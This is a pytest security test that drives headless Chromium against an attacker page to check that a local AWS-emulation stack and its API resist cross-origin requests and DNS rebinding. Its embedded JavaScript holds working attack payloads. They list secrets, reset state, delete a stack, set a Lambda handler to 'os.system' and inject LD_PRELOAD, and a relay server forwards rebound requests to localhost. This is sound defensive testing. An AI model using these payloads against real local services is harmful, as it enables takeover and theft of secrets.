"""A web page in a real browser tries to reach the local stack: from other origins, and under a name that was made to
mean this machine (DNS rebinding). It may neither read an answer nor change anything.

Needs Chromium (Debian: `apt-get install chromium`) or Chrome; `LOOPLLAMA_CHROMIUM` names another program.
`test_local_stack_alone.py` holds the same without one.
"""

from __future__ import annotations

import http.client
import json
import os
import shutil
import signal
import subprocess
import threading
import time
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

import pytest
from botocore.exceptions import ClientError
from support.loopback import Handler, serving

from .conftest import Running

NAMES = ("chromium", "chromium-browser", "google-chrome-stable", "google-chrome")
CHROMIUM = os.environ.get("LOOPLLAMA_CHROMIUM") or next(filter(None, map(shutil.which, NAMES)), "")
pytestmark = pytest.mark.skipif(
    not CHROMIUM, reason="no Chromium here, so NO BROWSER TRIED TO REACH THE LOCAL STACK: install the package chromium"
)
WAIT_SECONDS = 120.0
EVIL = "evil.test"
SECRET = "browser/secret"
FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--no-proxy-server",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
)  # fmt: skip

PAGE = """<!doctype html><meta charset="utf-8"><body><script>
const aws = %(aws)s, api = %(api)s, control = %(control)s, name = %(function)s;
const seen = {};
const read = (what, url, options) => fetch(url, options)
  .then(async a => seen[what] = a.type === "opaque" ? "opaque" : `${a.status} ${(await a.text()).slice(0, 300)}`)
  .catch(() => seen[what] = "blocked");
const element = (what, kind, attributes) => new Promise(done => {
  const made = Object.assign(document.createElement(kind), attributes);
  const end = (how) => () => { seen[what] = how; done(); };
  made.onload = end("loaded"); made.onerror = end("error");
  document.body.append(made);
});
const form = (what, action, type, fields) => new Promise(done => {
  const frame = Object.assign(document.createElement("iframe"), {name: what});
  document.body.append(frame);
  const made = Object.assign(document.createElement("form"), {method: "post", action, enctype: type, target: what});
  for (const [name, value] of fields) made.append(Object.assign(document.createElement("input"), {name, value}));
  document.body.append(made);
  frame.onload = () => {
    try { seen[what] = frame.contentDocument ? frame.contentDocument.documentElement.textContent : "opaque"; }
    catch { seen[what] = "opaque"; }
    if (frame.contentWindow.length === 0 && seen[what] !== "") done();
  };
  made.submit();
});
const list = {"X-Amz-Target": "secretsmanager.ListSecrets", "Content-Type": "application/x-amz-json-1.1"};
const text = {"Content-Type": "text/plain"};
(async () => {
  await read("control", control);
  for (const mode of ["cors", "no-cors"]) {
    await read(`buckets ${mode}`, aws + "/", {mode});
    await read(`with cookies ${mode}`, aws + "/", {mode, credentials: "include"});
    await read(`moto ${mode}`, aws + "/moto-api/data.json", {mode});
    await read(`reset ${mode}`, aws + "/moto-api/reset", {mode, method: "POST", headers: text, body: ""});
    await read(`form ${mode}`, aws + "/", {mode, method: "POST",
      body: new URLSearchParams("Action=DeleteStack&StackName=loopllama")});
    await read(`start ${mode}`, api + "/v1/workflows", {mode, method: "POST", headers: text, body: '{"name": "evil"}'});
    await read(`workflows ${mode}`, api + "/v1/workflows", {mode});
  }
  await read("secrets", aws + "/", {method: "POST", headers: list, body: "{}"});
  await read("handler", `${aws}/2015-03-31/functions/${name}/configuration`,
    {method: "PUT", headers: {"Content-Type": "application/json"}, body: '{"Handler": "os.system"}'});
  await read("environment", `${aws}/2015-03-31/functions/${name}/configuration`,
    {method: "PUT", body: '{"Environment": {"Variables": {"LD_PRELOAD": "mine.so"}}}'});
  await read("bucket", aws + "/evil", {method: "PUT"});
  await read("health", api + "/healthz");
  await read("document", api + "/openapi.json");
  await read("guessed key", api + "/v1/workflows", {headers: {"X-API-Key": "ll_live_guess"}});
  await element("image", "img", {src: aws + "/moto-api/"});
  await element("script", "script", {src: aws + "/moto-api/data.json"});
  await form("form-text", aws + "/", "text/plain", [['{"a": "', '"}']]);
  await form("form-reset", aws + "/moto-api/reset", "application/x-www-form-urlencoded", [["a", "b"]]);
  await form("form-api", api + "/v1/workflows", "text/plain", [['{"name": "evil", "x": "', '"}']]);
  navigator.sendBeacon(aws + "/moto-api/reset", "x");
  await fetch("/report", {method: "POST", body: JSON.stringify({origin: location.origin, seen})});
})();
</script>"""


class Attacker(Handler):
    """The page's own server. Under the evil name it is whatever that name means: itself for the page, and then this
    machine's own port, as after DNS rebinding."""

    page: str
    origins: list[str]
    reports: dict[str, dict[str, str]]
    reported: threading.Event

    def serve(self) -> None:
        host = self.headers["Host"]
        if self.path == "/all":
            frames = "".join(f'<iframe src="{origin}/attack"></iframe>' for origin in self.origins)
            self.answer(200, f"<!doctype html>{frames}", content_type="text/html")
        elif self.path == "/attack":
            fields = json.loads(self.page)
            if host.startswith(EVIL):
                fields |= {"aws": f"http://{EVIL}:{fields['ports'][0]}", "api": f"http://{EVIL}:{fields['ports'][1]}"}
            values = {name: json.dumps(value) for name, value in fields.items()}
            self.answer(200, PAGE % values, content_type="text/html")
        elif self.path == "/report":
            told = json.loads(self.body())
            self.reports[told["origin"]] = told["seen"]
            if self.reports.keys() >= set(self.origins):
                self.reported.set()
            self.answer(204)
        elif host.startswith(EVIL):
            self._relay(int(host.rpartition(":")[2]))
        else:
            self.answer(404)

    do_GET = do_POST = do_PUT = do_OPTIONS = serve  # noqa: N815

    def _relay(self, port: int) -> None:
        """Send the request on as it came, `Host` and all."""
        there = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        there.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
        for name, value in self.headers.items():
            there.putheader(name, value)
        there.endheaders(self.body())
        answered = there.getresponse()
        body = answered.read()
        self.send_response(answered.status)
        for name, value in answered.getheaders():
            if name.lower() not in ("transfer-encoding", "connection", "content-length"):
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
        there.close()


class Open(Handler):
    """Any page may read what this one says: what shows that the browser would let it."""

    def serve(self) -> None:
        self.answer(200, "read", access_control_allow_origin="*")


def state(running: Running) -> dict[str, Any]:
    """What a page might change, as its owner sees it."""
    looks: dict[str, Callable[[Callable[[str], Any]], Any]] = {
        "tables": lambda client: client("dynamodb").list_tables()["TableNames"],
        "buckets": lambda client: [each["Name"] for each in client("s3").list_buckets()["Buckets"]],
        "secret": lambda client: client("secretsmanager").get_secret_value(SecretId=SECRET)["SecretString"],
        "functions": lambda client: {
            each["FunctionName"]: (each["Handler"], each["Environment"])
            for each in client("lambda").list_functions()["Functions"]
        },
        "stacks": lambda client: [each["StackName"] for each in client("cloudformation").describe_stacks()["Stacks"]],
        "workflows": lambda client: client("dynamodb").scan(TableName=running.outputs["WorkflowsTableName"])["Count"],
    }
    found = {}
    for what, look in looks.items():
        try:
            found[what] = look(running.client)
        except ClientError as error:
            found[what] = str(error)
    return found


class Tried:
    """What pages saw, by their origin, and what the stack was before and after."""

    def __init__(self, reports: dict[str, dict[str, str]], ports: list[int], before: Any, after: Any) -> None:
        self.rebound = {origin: seen for origin, seen in reports.items() if EVIL in origin}
        self.others = {origin: seen for origin, seen in reports.items() if EVIL not in origin}
        self.ports, self.before, self.after = ports, before, after


@pytest.fixture(scope="module")
def tried(product: Running, tmp_path_factory: pytest.TempPathFactory) -> Tried:
    product.client("secretsmanager").create_secret(Name=SECRET, SecretString="hidden")
    before = state(product)
    aws, api = product.stack.aws_endpoint_url, product.stack.api_url
    ports = [int(urlsplit(url).port or 0) for url in (aws, api)]
    reports: dict[str, dict[str, str]] = {}
    origins: list[str] = []
    reported = threading.Event()
    with serving(Open) as control:
        fields = {
            "aws": aws,
            "api": api,
            "ports": ports,
            "control": control,
            "function": next(iter(before["functions"])),
        }
        attributes = {"page": json.dumps(fields), "origins": origins, "reports": reports, "reported": reported}
        with serving(Attacker, **attributes) as url:
            port = urlsplit(url).port
            origins += [url, f"http://localhost:{port}", *(f"http://{EVIL}:{each}" for each in ports)]
            folder = tmp_path_factory.mktemp("chromium")
            rules = f"MAP {EVIL} 127.0.0.1:{port}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"
            command = [CHROMIUM, *FLAGS, f"--user-data-dir={folder}", f"--host-resolver-rules={rules}", f"{url}/all"]
            log = folder / "log"
            with log.open("w") as output:
                browser = subprocess.Popen(command, stdout=output, stderr=output, start_new_session=True)
            try:
                deadline = time.monotonic() + WAIT_SECONDS
                while not reported.wait(0.5):
                    assert browser.poll() is None, log.read_text()
                    assert time.monotonic() < deadline, (sorted(reports), log.read_text()[-4000:])
                time.sleep(0.5)  # the beacon
            finally:
                os.killpg(browser.pid, signal.SIGKILL)
                browser.wait()
    after = state(product)
    product.client("secretsmanager").delete_secret(SecretId=SECRET, ForceDeleteWithoutRecovery=True)
    return Tried(reports, ports, before, after)


def test_the_browser_lets_pages_read_what_says_that_they_may(tried: Tried) -> None:
    assert len(tried.others) == len(tried.rebound) == 2
    for seen in (*tried.others.values(), *tried.rebound.values()):
        assert seen["control"] == "200 read"


def test_pages_of_other_origins_read_nothing(tried: Tried) -> None:
    for seen in tried.others.values():
        allowed = {"control": {"200 read"}, "image": {"error"}, "script": {"error"}}
        for what, saw in seen.items():
            assert saw in allowed.get(what, {"blocked", "opaque"}), (what, saw)


def test_a_page_whose_name_was_made_to_mean_this_machine_reads_refusals(tried: Tried) -> None:
    for origin, seen in tried.rebound.items():
        own = "aws" if origin.endswith(f":{tried.ports[0]}") else "api"
        at_api = {"workflows cors", "start cors", "health", "document", "guessed key"}
        read = (
            at_api if own == "api" else {"buckets cors", "moto cors", "reset cors", "form cors", "secrets", "handler"}
        )
        for what, saw in seen.items():
            if what in read:
                assert saw.startswith("403 "), (what, saw)
                assert "answers here to 127.0.0.1:" in saw, (what, saw)
            elif what != "control":
                assert not saw.startswith("2"), (what, saw)
                assert SECRET not in saw


def test_nothing_changed(tried: Tried) -> None:
    assert tried.after == tried.before
